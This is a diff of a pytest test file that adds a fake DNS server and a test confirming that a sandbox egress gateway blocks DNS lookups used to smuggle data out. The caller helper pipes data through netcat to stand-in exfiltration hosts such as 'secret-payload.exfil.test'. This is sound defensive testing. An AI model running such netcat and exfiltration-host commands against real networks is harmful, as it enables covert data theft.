@@ -12,10 +12,13 @@ import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
 import yaml
+from dnslib import QTYPE, RCODE, RR, A
+from dnslib.server import BaseResolver, DNSServer
 
 from tests.conftest import DevServer, start_dev
 from tests.images import Registry, build, busybox_recipe
@@ -58,12 +61,47 @@ def upstream() -> Iterator[str]:
         subprocess.run(["ip", "netns", "del", ns], capture_output=True)
 
 
+class FakeDNS:
+    """The upstream DNS server the worker's responder asks: it knows one name and
+    remembers every question (to show which never reached it)."""
+
+    def __init__(self) -> None:
+        self.questions: list[str] = []
+        outer = self
+
+        class Resolver(BaseResolver):  # type: ignore[misc]
+            def resolve(self, request: Any, handler: Any) -> Any:
+                name = str(request.q.qname).rstrip(".")
+                outer.questions.append(name)
+                reply = request.reply()
+                if name == "allowed.test" and request.q.qtype == QTYPE.A:
+                    reply.add_answer(RR(request.q.qname, QTYPE.A, rdata=A(UPSTREAM), ttl=60))
+                elif name != "allowed.test":
+                    reply.header.rcode = RCODE.NXDOMAIN
+                return reply
+
+        self.server = DNSServer(Resolver(), port=0, address="127.0.0.1")
+        self.server.start_thread()
+        self.port = self.server.server.server_address[1]
+
+    def stop(self) -> None:
+        self.server.stop()
+
+
 @pytest.fixture(scope="module")
-def dev(registry: Registry, upstream: str,
+def fake_dns() -> Iterator[FakeDNS]:
+    server = FakeDNS()
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def dev(registry: Registry, upstream: str, fake_dns: FakeDNS,
         tmp_path_factory: pytest.TempPathFactory) -> Iterator[DevServer]:
     registry.push("test/shell", "1", build(busybox_recipe(Entrypoint=["/bin/sh", "-c"])))
     server = start_dev(tmp_path_factory.mktemp("egress") / "clrk", "--insecure-registry",
-                       registry.host, workers=1)
+                       registry.host, workers=1,
+                       env={"CLRK_DNS_UPSTREAM": f"127.0.0.1:{fake_dns.port}"})
     try:
         deadline = time.monotonic() + 60
         while server.kubectl("get", "wp", "default", "-o",
@@ -84,10 +122,11 @@ def gateway(name: str, policy: str) -> dict[str, object]:
             "metadata": {"name": name}, "spec": {"defaultPolicy": policy}}
 
 
-def caller(name: str, image: str, gw: str | None) -> dict[str, object]:
+def caller(name: str, image: str, gw: str | None, target: str = UPSTREAM
+           ) -> dict[str, object]:
     spec: dict[str, object] = {"workerPoolRef": "default", "timeout": "30s", "template": {
         "spec": {"image": image, "args": [
-            f"echo hello | timeout 5 nc {UPSTREAM} 9000; echo rc=$?"]}}}
+            f"echo hello | timeout 5 nc {target} 9000; echo rc=$?"]}}}
     if gw:
         spec["egressRefs"] = [{"gatewayRef": gw}]
     return {"apiVersion": "clrk.apoxy.dev/v1alpha1", "kind": "TaskAgent",
@@ -136,3 +175,22 @@ def test_default_policies_through_the_gateway(dev: DevServer, registry: Registry
         "socket_address"]["port_value"])
     with pytest.raises(httpx.HTTPError):
         httpx.get(f"http://127.0.0.1:{port}/", timeout=2)
+
+
+def test_dns_answers_only_what_the_gateway_allows(dev: DevServer, registry: Registry,
+                                                   fake_dns: FakeDNS) -> None:
+    image = f"{registry.host}/test/shell:1"
+    apply(dev, gateway("open", "allow-all"), gateway("closed", "deny-all"),
+          caller("dns-open", image, "open", "allowed.test"),
+          caller("dns-closed", image, "closed", "secret-payload.exfil.test"),
+          caller("dns-none", image, None, "other-payload.exfil.test"))
+    deadline = time.monotonic() + 30
+    while "echo:hello" not in (out := call(dev, "dns-open")):
+        assert time.monotonic() < deadline, out
+        time.sleep(0.5)
+    assert "allowed.test" in fake_dns.questions  # resolved by the worker, upstream
+    # deny-all and no gateway: the lookup fails inside the sandbox and the question
+    # never leaves the worker, so a name cannot carry data out.
+    assert "echo:" not in call(dev, "dns-closed")
+    assert "echo:" not in call(dev, "dns-none")
+    assert not any("exfil" in q for q in fake_dns.questions), fake_dns.questions
